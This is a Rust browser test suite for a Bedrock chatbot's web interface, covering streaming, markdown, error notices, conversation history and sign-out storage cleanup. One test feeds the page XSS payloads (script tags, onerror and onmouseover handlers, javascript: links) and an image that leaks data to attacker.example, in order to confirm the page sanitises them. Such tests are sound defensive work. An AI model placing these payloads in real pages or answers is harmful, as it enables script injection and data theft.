#![allow(clippy::unwrap_used)]
//! The UI in headless Chromium (Debian's `chromium` and `chromium-driver`, installed
//! by `scripts/setup-browser`), driven through chromedriver with fantoccini, against
//! the real server with the development identity and the Bedrock stand-in.

mod support;

use std::net::Ipv4Addr;
use std::time::Duration;

use bedrock_standin::{Fault, Reply};
use fantoccini::Locator;
use serde_json::{Value, json};
use support::browser::*;
use support::*;

const MARKDOWN_ANSWER: &str = "## Streaming works\n\nThis is **bold**, *italic* and `inline code`.\n\n- first\n- second\n\n```rust\nfn main() {\n    let answer = 42; // the answer\n    println!(\"{answer}\");\n}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn asks_watches_the_answer_stream_renders_markdown_and_remembers() {
    let world = World::dev("dev@example.com").await;
    world
        .standin
        .state()
        .push_reply(Reply::text(MARKDOWN_ANSWER).paced(Duration::from_millis(40)));
    let (browser, server) = open(&world).await;

    // Signed in, and the development identity says so.
    assert_eq!(
        browser
            .js("return document.getElementById('dev-banner').hidden")
            .await,
        false
    );
    assert!(
        browser
            .js("return document.getElementById('dev-banner').textContent")
            .await
            .as_str()
            .unwrap()
            .contains("Development identity")
    );

    browser.ask("Show me some markdown").await;

    // While tokens arrive the log is busy and the answer grows.
    browser
        .wait_for(
            "part of the answer while streaming",
            "const m = document.getElementById('messages'); \
             const a = document.querySelector('.message.assistant .body'); \
             return m.getAttribute('aria-busy') === 'true' && !!a && a.textContent.includes('Streaming')",
        )
        .await;
    assert_eq!(
        browser
            .js("return document.getElementById('stop').hidden")
            .await,
        false,
        "stop is offered while streaming"
    );
    browser.answer_done().await;

    let rendered = browser
        .js("const a = document.querySelector('.message.assistant .body'); return {
                h: a.querySelector('h3') && a.querySelector('h3').textContent,
                strong: a.querySelector('strong') && a.querySelector('strong').textContent,
                em: !!a.querySelector('em'),
                inlineCode: a.querySelector('p code') && a.querySelector('p code').textContent,
                items: a.querySelectorAll('ul li').length,
                codeClass: a.querySelector('pre code') && a.querySelector('pre code').className,
                keywords: Array.from(a.querySelectorAll('pre .tok-kw')).map(e => e.textContent),
                comment: a.querySelector('pre .tok-com') && a.querySelector('pre .tok-com').textContent,
                cells: a.querySelectorAll('table td').length,
                usage: document.querySelector('.message.assistant .meta').textContent,
            }")
        .await;
    assert_eq!(rendered["h"], "Streaming works");
    assert_eq!(rendered["strong"], "bold");
    assert_eq!(rendered["em"], true);
    assert_eq!(rendered["inlineCode"], "inline code");
    assert_eq!(rendered["items"], 2);
    assert_eq!(rendered["codeClass"], "language-rust");
    let keywords: Vec<&str> = rendered["keywords"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k.as_str().unwrap())
        .collect();
    assert!(
        keywords.contains(&"fn") && keywords.contains(&"let"),
        "{keywords:?}"
    );
    assert_eq!(rendered["comment"], "// the answer");
    assert_eq!(rendered["cells"], 2);
    assert!(
        rendered["usage"].as_str().unwrap().contains(" tokens"),
        "{rendered}"
    );
    assert_eq!(
        browser
            .js("return document.getElementById('title').textContent")
            .await,
        "Show me some markdown"
    );

    // The conversation survives a reload, and the next question carries it.
    browser.client.refresh().await.unwrap();
    browser
        .wait_for(
            "the conversation after reload",
            "return document.body.dataset.ready === 'true' && document.querySelectorAll('.message').length === 2",
        )
        .await;
    browser.ask("And again?").await;
    browser.answer_done().await;
    let sent = world.standin.state().requests();
    assert_eq!(sent.len(), 2);
    let history = sent[1].messages();
    assert_eq!(history.len(), 3);
    assert_eq!(history[0].1, "Show me some markdown");
    assert_eq!(history[1].1, MARKDOWN_ANSWER);
    assert_eq!(history[2].1, "And again?");

    // A new chat starts empty and both conversations are listed.
    browser
        .client
        .find(Locator::Id("new-chat"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    browser.ask("A second conversation").await;
    browser.answer_done().await;
    assert_eq!(
        browser
            .js("return document.querySelectorAll('#conversations li').length")
            .await,
        2
    );
    assert_eq!(
        browser
            .js("return document.querySelectorAll('.message').length")
            .await,
        2
    );

    browser.close().await;
    let _ = server.stop.send(());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stop_ends_the_answer_and_the_bedrock_stream() {
    let world = World::dev("dev@example.com").await;
    world
        .standin
        .state()
        .push_reply(Reply::text("word ".repeat(3000)).paced(Duration::from_millis(20)));
    let (browser, server) = open(&world).await;

    browser.ask("Talk for a long time").await;
    browser
        .wait_for(
            "the first words",
            "const a = document.querySelector('.message.assistant .body'); return !!a && a.textContent.includes('word word')",
        )
        .await;
    browser
        .client
        .find(Locator::Id("stop"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    browser.answer_done().await;

    let state = world.standin.state().clone();
    wait_until(|| state.streams_abandoned() == 1).await;
    assert_eq!(state.streams_finished(), 0);
    let meta = browser
        .js("return document.querySelector('.message.assistant .meta').textContent")
        .await;
    assert!(meta.as_str().unwrap().contains("Stopped"), "{meta}");
    let shown = browser
        .js("return document.querySelector('.message.assistant .body').textContent.length")
        .await;
    assert!(shown.as_u64().unwrap() < "word ".len() as u64 * 3000);

    browser.close().await;
    let _ = server.stop.send(());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn model_output_never_runs_script() {
    let world = World::dev("dev@example.com").await;
    let payload = "Look: <script>window.__pwned = 'script'</script>\n\n\
        <img src=x onerror=\"window.__pwned = 'img'\">\n\n\
        [click me](javascript:window.__pwned='link') and ![pic](javascript:window.__pwned='image')\n\n\
        ![remote](https://attacker.example/leak?q=secret)\n\n\
        <b onmouseover=\"window.__pwned='b'\">hover</b> `<script>alert(1)</script>`\n";
    world.standin.state().push_reply(Reply::text(payload));
    let (browser, server) = open(&world).await;

    browser.ask("Say something nasty").await;
    browser.answer_done().await;
    // Give any injected handler a chance to fire, then look.
    browser
        .client
        .find(Locator::Css(".message.assistant .body"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();

    let verdict = browser
        .js("const a = document.querySelector('.message.assistant .body'); return {
                pwned: window.__pwned === undefined ? null : window.__pwned,
                dangerous: a.querySelectorAll('script, img, iframe, object, embed, [onerror], [onmouseover], [onclick], [style]').length,
                badLinks: Array.from(a.querySelectorAll('a')).filter(l => !/^(https?:|mailto:)/.test(l.getAttribute('href'))).length,
                text: a.textContent,
            }")
        .await;
    assert_eq!(verdict["pwned"], Value::Null, "{verdict}");
    assert_eq!(verdict["dangerous"], 0, "{verdict}");
    assert_eq!(verdict["badLinks"], 0, "{verdict}");
    let text = verdict["text"].as_str().unwrap();
    assert!(
        text.contains("<script>window.__pwned = 'script'</script>"),
        "shown as text: {text}"
    );
    assert!(
        text.contains("<img src=x onerror="),
        "shown as text: {text}"
    );

    browser.close().await;
    let _ = server.stop.send(());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn throttling_model_access_and_long_input_are_explained() {
    let world = World::dev("dev@example.com").await;
    world
        .standin
        .state()
        .push_reply(Reply::fault(Fault::Throttling));
    world
        .standin
        .state()
        .push_reply(Reply::fault(Fault::AccessDenied));
    let (browser, server) = open(&world).await;

    browser.ask("first").await;
    browser
        .wait_for(
            "the busy notice",
            "const n = document.getElementById('notice'); return !n.hidden && /busy right now\\. Retry in \\d+ s\\./.test(n.textContent)",
        )
        .await;
    assert_eq!(
        browser
            .js("return document.getElementById('send').disabled")
            .await,
        true,
        "send waits for the retry time"
    );

    // After the wait, the next question meets the model-access error.
    browser
        .wait_for(
            "the retry countdown to end",
            "return document.getElementById('notice').hidden",
        )
        .await;
    browser.ask("second").await;
    browser
        .wait_for(
            "the model access notice",
            "const n = document.getElementById('notice'); return !n.hidden && n.textContent.includes('model access is not enabled')",
        )
        .await;

    // Too long a message is refused in the page, before any request.
    let before = world.standin.state().requests().len();
    browser
        .js("const i = document.getElementById('input'); i.value = 'x'.repeat(32001); i.dispatchEvent(new Event('input')); return true")
        .await;
    assert_eq!(
        browser
            .js("return document.getElementById('send').disabled")
            .await,
        true
    );
    assert!(
        browser
            .js("return document.getElementById('counter').textContent")
            .await
            .as_str()
            .unwrap()
            .contains("32,001")
    );
    assert_eq!(world.standin.state().requests().len(), before);

    browser.close().await;
    let _ = server.stop.send(());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_not_enabled_in_the_account_says_who_enables_it_and_how() {
    let world = World::dev("dev@example.com").await;
    world
        .standin
        .state()
        .push_reply(Reply::fault(Fault::ModelNotSubscribed));
    world
        .standin
        .state()
        .push_reply(Reply::fault(Fault::AccessDenied));
    let (browser, server) = open(&world).await;
    let notice =
        "const n = document.getElementById('notice'); return n.hidden ? '' : n.textContent";

    browser.ask("first").await;
    browser.answer_done().await;
    let shown = browser.js(notice).await;
    let shown = shown.as_str().unwrap();
    for expected in [
        "not enabled",
        "AWS administrator",
        "once",
        "https://docs.aws.amazon.com/bedrock/latest/userguide/model-access.html",
    ] {
        assert!(shown.contains(expected), "{expected:?} in {shown}");
    }

    // Any other refusal of the model names no console page that no longer exists.
    browser.ask("second").await;
    browser
        .wait_for(
            "the model access notice",
            "const n = document.getElementById('notice'); return !n.hidden && n.textContent.includes('model access is not enabled')",
        )
        .await;
    let shown = browser.js(notice).await;
    assert!(!shown.as_str().unwrap().contains("Model access"), "{shown}");

    browser.close().await;
    let _ = server.stop.send(());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn model_settings_the_model_refuses_are_shown_in_bedrocks_words() {
    // Sonnet 4.5 takes `temperature` or `topP`, not both; this team set both.
    let world = World::dev_with(
        "dev@example.com",
        &[
            (
                "CHATBOT_MODEL_ID",
                "us.anthropic.claude-sonnet-4-5-20250929-v1:0",
            ),
            ("CHATBOT_TOP_P", "0.8"),
        ],
    )
    .await;
    let (browser, server) = open(&world).await;

    browser.ask("hello").await;
    browser.answer_done().await;
    let bedrocks_words =
        "`temperature` and `top_p` cannot both be specified for this model. Please use only one.";
    let notice = browser
        .js("const n = document.getElementById('notice'); return n.hidden ? '' : n.textContent")
        .await;
    assert!(
        notice.as_str().unwrap().contains(bedrocks_words),
        "{notice}"
    );
    let error = browser
        .js("return [...document.querySelectorAll('.message.assistant')].pop().querySelector('.meta .error')?.textContent || ''")
        .await;
    assert!(error.as_str().unwrap().contains(bedrocks_words), "{error}");

    browser.close().await;
    let _ = server.stop.send(());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_cut_off_by_a_model_fault_is_kept_and_marked_incomplete() {
    let world = World::dev("dev@example.com").await;
    world.standin.state().push_reply(
        Reply::text("one two three four five").failing(Fault::ModelStreamError { after_tokens: 2 }),
    );
    let (browser, server) = open(&world).await;

    browser.ask("Count to five").await;
    browser.answer_done().await;
    let shown = "const a = [...document.querySelectorAll('.message.assistant')].pop(); \
                 return { incomplete: a.classList.contains('incomplete'), \
                 text: a.querySelector('.body').textContent, \
                 chips: [...a.querySelectorAll('.meta .chip')].map(c => c.textContent), \
                 error: a.querySelector('.meta .error')?.textContent || '' }";
    let answer = browser.js(shown).await;
    assert_eq!(answer["incomplete"], true, "{answer}");
    assert_eq!(
        answer["text"].as_str().unwrap().trim(),
        "one two",
        "{answer}"
    );
    assert!(
        answer["chips"]
            .as_array()
            .unwrap()
            .contains(&json!("Incomplete answer")),
        "{answer}"
    );
    assert!(
        answer["error"]
            .as_str()
            .unwrap()
            .contains("the model failed while answering"),
        "{answer}"
    );

    // Kept as it was, mark and error included, across a reload.
    browser.client.refresh().await.unwrap();
    browser
        .wait_for(
            "the conversation to come back",
            "return document.body.dataset.ready === 'true' && !!document.querySelector('.message.assistant')",
        )
        .await;
    assert_eq!(browser.js(shown).await, answer);

    browser.close().await;
    let _ = server.stop.send(());
}

/// Without server-side history, conversations stay in this browser for the signed-in
/// user only until they sign out: the next person on a shared browser sees none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signing_out_leaves_no_conversation_in_the_browser() {
    let world = World::dev("dev@example.com").await;
    let (browser, server) = open(&world).await;
    browser.ask("Something private").await;
    browser.answer_done().await;
    let stored = "return Object.keys(localStorage).filter(k => k.startsWith('bedrock-chatbot.')) \
                  .filter(k => localStorage.getItem(k).includes('Something private')).length";
    assert_eq!(browser.js(stored).await, 1, "kept for this user meanwhile");
    let key = browser
        .js("return Object.keys(localStorage).find(k => k.startsWith('bedrock-chatbot.conversations'))")
        .await;
    assert!(
        key.as_str().unwrap().ends_with("dev@example.com"),
        "keyed by the user: {key}"
    );

    browser.click("sign-out").await;
    // Sign-out leaves for Cognito (unreachable here); the origin's storage is what
    // the next person would get.
    browser.client.goto(&server.url).await.unwrap();
    browser
        .wait_for(
            "the page after signing out",
            "return document.body.dataset.ready === 'true'",
        )
        .await;
    assert_eq!(browser.js(stored).await, 0);
    assert_eq!(
        browser
            .js(
                "return document.querySelectorAll('#conversations li .open').length === 1 \
                 && document.querySelectorAll('.message').length === 0"
            )
            .await,
        true,
        "only an empty new chat"
    );
    browser.close().await;
    let _ = server.stop.send(());
}

/// Earlier versions kept everyone's conversations under one key: they are offered
/// once to whoever signs in next, imported on request, and then gone from that key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conversations_of_an_earlier_version_are_offered_once_then_removed() {
    let world = World::dev("dev@example.com").await;
    let (browser, server) = open(&world).await;
    browser
        .js(
            "localStorage.setItem('bedrock-chatbot.conversations.v1', JSON.stringify([
               { id: 'a', title: 'Old chat', updated: 1, messages: [
                 { role: 'user', text: 'An old question' },
                 { role: 'assistant', text: 'An old answer' } ] },
               { id: 'b', title: 'Empty', updated: 2, messages: [] } ]))",
        )
        .await;
    browser.client.refresh().await.unwrap();
    browser
        .wait_for(
            "the offer to import",
            "return document.body.dataset.ready === 'true' \
             && !document.getElementById('import-offer').hidden",
        )
        .await;
    let offer = browser
        .js("return document.getElementById('import-text').textContent")
        .await;
    assert!(
        offer
            .as_str()
            .unwrap()
            .starts_with("1 conversation is stored"),
        "{offer}"
    );
    browser.click("import-accept").await;
    browser
        .wait_for(
            "the imported conversation in the list",
            "return Array.from(document.querySelectorAll('#conversations .open')) \
             .some(b => b.textContent === 'Old chat')",
        )
        .await;
    assert_eq!(
        browser
            .js("return localStorage.getItem('bedrock-chatbot.conversations.v1')")
            .await,
        Value::Null
    );
    browser.client.refresh().await.unwrap();
    browser
        .wait_for(
            "the page after reload",
            "return document.body.dataset.ready === 'true'",
        )
        .await;
    assert_eq!(
        browser
            .js("return document.getElementById('import-offer').hidden")
            .await,
        true,
        "offered once"
    );
    browser
        .js(
            "Array.from(document.querySelectorAll('#conversations .open')) \
             .find(b => b.textContent === 'Old chat').click()",
        )
        .await;
    browser
        .wait_for(
            "the imported turns",
            "return document.querySelectorAll('.message').length === 2 \
             && document.querySelector('.message.assistant .body').textContent === 'An old answer'",
        )
        .await;
    browser.close().await;
    let _ = server.stop.send(());
}

/// With history on the server, a conversation follows its user to another browser
/// (another profile: nothing shared but the user), survives a reload without being
/// kept in the browser, and another user sees none of it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn history_follows_its_user_to_another_browser_and_no_one_else() {
    let moto = testkit::Moto::start().unwrap();
    create_history_table(&dynamodb_at(&moto.endpoint()).await, HISTORY_TABLE, true).await;
    let ada = dev_with_history("ada@example.com", &moto.endpoint(), HISTORY_TABLE).await;
    let server = serve(&ada).await;
    let first = Browser::start().await;
    visit(&first, &server, "ada@example.com").await;
    assert!(
        first
            .js("return document.getElementById('empty-text').textContent")
            .await
            .as_str()
            .unwrap()
            .contains("kept for 90 days"),
    );
    first.ask("Where do my chats live?").await;
    first.answer_done().await;
    first
        .wait_for(
            "the stored conversation in the list",
            &format!("{LISTED}.join('|') === 'Where do my chats live?'"),
        )
        .await;
    let kept_locally = "return Object.keys(localStorage) \
        .some(k => localStorage.getItem(k).includes('Where do my chats live'))";
    assert_eq!(first.js(kept_locally).await, false, "the server keeps it");

    first.client.refresh().await.unwrap();
    visit(&first, &server, "ada@example.com").await;
    first
        .wait_for(
            "the conversation after reload",
            "return document.querySelectorAll('.message').length === 2",
        )
        .await;

    // Another browser profile, the same user: the same list, the same turns.
    let second = Browser::start().await;
    visit(&second, &server, "ada@example.com").await;
    assert_eq!(second.js(LISTED).await, json!(["Where do my chats live?"]));
    second
        .wait_for(
            "the turns in the other browser",
            "return document.querySelectorAll('.message').length === 2 \
             && document.querySelector('.message.user .body').textContent === 'Where do my chats live?'",
        )
        .await;
    second.close().await;

    // Another user of the same chatbot and table: nothing.
    let bob = dev_with_history("bob@example.com", &moto.endpoint(), HISTORY_TABLE).await;
    let bob_server = serve(&bob).await;
    let third = Browser::start().await;
    visit(&third, &bob_server, "bob@example.com").await;
    assert_eq!(third.js(LISTED).await, json!(["New chat"]));
    assert_eq!(
        third
            .js("return document.querySelectorAll('.message').length")
            .await,
        0
    );
    third.close().await;
    first.close().await;
    let _ = server.stop.send(());
    let _ = bob_server.stop.send(());
}

/// Two tasks of one chatbot behind the load balancer: a page whose task remembers the
/// conversation asks after another device added to it through the other task. The
/// answer starts over from the stored conversation (`restart`): the page drops the
/// first try's text and then shows the conversation as stored, the other device's
/// exchange included.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_started_over_shows_once_and_with_what_another_device_added() {
    let moto = testkit::Moto::start().unwrap();
    create_history_table(&dynamodb_at(&moto.endpoint()).await, HISTORY_TABLE, true).await;
    let here = dev_with_history("ada@example.com", &moto.endpoint(), HISTORY_TABLE).await;
    let elsewhere = dev_with_history("ada@example.com", &moto.endpoint(), HISTORY_TABLE).await;
    let (server, other_server) = (serve(&here).await, serve(&elsewhere).await);
    let laptop = Browser::start().await;
    visit(&laptop, &server, "ada@example.com").await;
    laptop.ask("First question").await;
    laptop.answer_done().await;

    let phone = Browser::start().await;
    visit(&phone, &other_server, "ada@example.com").await;
    phone
        .wait_for(
            "the conversation on the phone",
            "return document.querySelectorAll('.message').length === 2",
        )
        .await;
    phone.ask("From the phone").await;
    phone.answer_done().await;
    phone.close().await;

    here.standin
        .state()
        .push_reply(Reply::text("Stale guess, ").paced(Duration::from_millis(20)));
    here.standin
        .state()
        .push_reply(Reply::text("Fresh answer."));
    laptop.ask("From the laptop").await;
    laptop.answer_done().await;
    laptop
        .wait_for(
            "the conversation as stored",
            "return [...document.querySelectorAll('.message.user .body')] \
               .map(e => e.textContent).join('|') === 'First question|From the phone|From the laptop'",
        )
        .await;
    let answers = laptop
        .js("return [...document.querySelectorAll('.message.assistant .body')].map(e => e.textContent)")
        .await;
    let answers: Vec<&str> = answers
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().trim())
        .collect();
    assert_eq!(answers.len(), 3, "{answers:?}");
    assert_eq!(answers[2], "Fresh answer.", "{answers:?}");
    // Asked twice: the first try from memory, then again from the store.
    let asked: Vec<usize> = here
        .standin
        .state()
        .requests()
        .iter()
        .map(|r| r.messages().len())
        .collect();
    assert_eq!(asked, [1, 3, 5], "{asked:?}");
    laptop.close().await;
    let _ = server.stop.send(());
    let _ = other_server.stop.send(());
}

/// Two tabs of one user: what one asks, renames or deletes shows in the other
/// without a reload; search finds by text; the export is a download of the turns.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tabs_stay_in_sync_and_the_page_renames_searches_exports_and_deletes() {
    let moto = testkit::Moto::start().unwrap();
    create_history_table(&dynamodb_at(&moto.endpoint()).await, HISTORY_TABLE, true).await;
    let ada = dev_with_history("ada@example.com", &moto.endpoint(), HISTORY_TABLE).await;
    let server = serve(&ada).await;
    let browser = Browser::start().await;
    visit(&browser, &server, "ada@example.com").await;
    let first_tab = browser.client.window().await.unwrap();
    let second_tab = browser.client.new_window(true).await.unwrap().handle;
    browser
        .client
        .switch_to_window(second_tab.clone())
        .await
        .unwrap();
    visit(&browser, &server, "ada@example.com").await;

    browser
        .client
        .switch_to_window(first_tab.clone())
        .await
        .unwrap();
    browser.ask("Tell me about penguins").await;
    browser.answer_done().await;
    browser
        .client
        .switch_to_window(second_tab.clone())
        .await
        .unwrap();
    browser
        .wait_for(
            "the other tab to list the new conversation",
            &format!("{LISTED}.includes('Tell me about penguins')"),
        )
        .await;

    // Rename in the first tab.
    browser
        .client
        .switch_to_window(first_tab.clone())
        .await
        .unwrap();
    browser.click("rename").await;
    let input = browser
        .client
        .find(Locator::Css(".rename-input"))
        .await
        .unwrap();
    input.send_keys("\u{E009}a").await.unwrap(); // Ctrl+A: the old title goes
    input.send_keys("Penguins\u{E007}").await.unwrap(); // Enter
    browser
        .wait_for(
            "the new title",
            &format!("{LISTED}.join('|') === 'Penguins'"),
        )
        .await;
    browser
        .client
        .switch_to_window(second_tab.clone())
        .await
        .unwrap();
    browser
        .wait_for(
            "the other tab to show the new title",
            &format!("{LISTED}.includes('Penguins')"),
        )
        .await;

    // Search by a word of the answer's text (the stand-in's answer).
    let search = browser.client.find(Locator::Id("search")).await.unwrap();
    search.send_keys("stand-in").await.unwrap();
    browser
        .wait_for(
            "a search hit with its snippet",
            "const hit = document.querySelector('#conversations .open .snippet'); \
             return !!hit && hit.textContent.toLowerCase().includes('stand-in')",
        )
        .await;
    search.clear().await.unwrap();
    search.send_keys("no such words").await.unwrap();
    browser
        .wait_for(
            "no hit",
            &format!("{LISTED}.filter(t => t !== 'New chat').length === 0"),
        )
        .await;
    search.clear().await.unwrap();
    browser
        .js("document.getElementById('search').dispatchEvent(new Event('input'))")
        .await;
    browser
        .wait_for(
            "the whole list again",
            &format!("{LISTED}.includes('Penguins')"),
        )
        .await;

    // The export links download the conversation.
    browser
        .client
        .switch_to_window(first_tab.clone())
        .await
        .unwrap();
    let exported = browser
        .client
        .execute_async(
            "const done = arguments[0]; \
             const link = document.getElementById('export-md'); \
             fetch(link.href).then(async r => done({ \
               disposition: r.headers.get('content-disposition'), text: await r.text(), \
               hidden: link.hidden }));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(exported["hidden"], false);
    assert!(
        exported["disposition"]
            .as_str()
            .unwrap()
            .starts_with("attachment"),
        "{exported}"
    );
    assert!(
        exported["text"]
            .as_str()
            .unwrap()
            .contains("Tell me about penguins"),
        "{exported}"
    );

    // Delete in the first tab: gone there, in the other tab, and on the server.
    browser
        .js("document.querySelector('#conversations li.active .delete').click()")
        .await;
    browser
        .wait_for(
            "the conversation gone",
            &format!("{LISTED}.filter(t => t !== 'New chat').length === 0"),
        )
        .await;
    browser.client.switch_to_window(second_tab).await.unwrap();
    browser
        .wait_for(
            "the other tab to drop it",
            &format!("{LISTED}.filter(t => t !== 'New chat').length === 0"),
        )
        .await;
    let listed = browser
        .client
        .execute_async(
            "const done = arguments[0]; \
             fetch('/api/conversations').then(r => r.json()).then(done);",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(listed["conversations"], json!([]));
    browser.close().await;
    let _ = server.stop.send(());
}

/// DynamoDB out of reach: the answer still streams, and the page says history is
/// not being saved.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_dynamodb_the_answer_streams_and_the_page_says_it_is_not_saved() {
    // A port nothing listens on.
    let closed = {
        let listener = std::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        format!("http://{}", listener.local_addr().unwrap())
    };
    let ada = dev_with_history("ada@example.com", &closed, HISTORY_TABLE).await;
    let server = serve(&ada).await;
    let browser = Browser::start().await;
    visit(&browser, &server, "ada@example.com").await;
    browser.ask("Are you saving this?").await;
    browser.answer_done().await;
    browser
        .wait_for(
            "the history status",
            "return !document.getElementById('history-status').hidden",
        )
        .await;
    assert!(
        browser
            .js("return document.querySelector('.message.assistant .body').textContent")
            .await
            .as_str()
            .unwrap()
            .contains("stand-in"),
    );
    // The conversation was never created on the server: the page keeps it as its
    // own, and the next question goes with its messages (asked by the id `start`
    // gave, it would find no conversation to continue).
    browser.ask("And this?").await;
    browser.answer_done().await;
    let answers = browser
        .js("return [...document.querySelectorAll('.message.assistant')].map(m => m.textContent)")
        .await;
    let answers = answers.as_array().unwrap();
    assert_eq!(answers.len(), 2, "{answers:?}");
    assert!(
        answers[1].as_str().unwrap().contains("stand-in"),
        "{answers:?}"
    );
    browser.close().await;
    let _ = server.stop.send(());
}
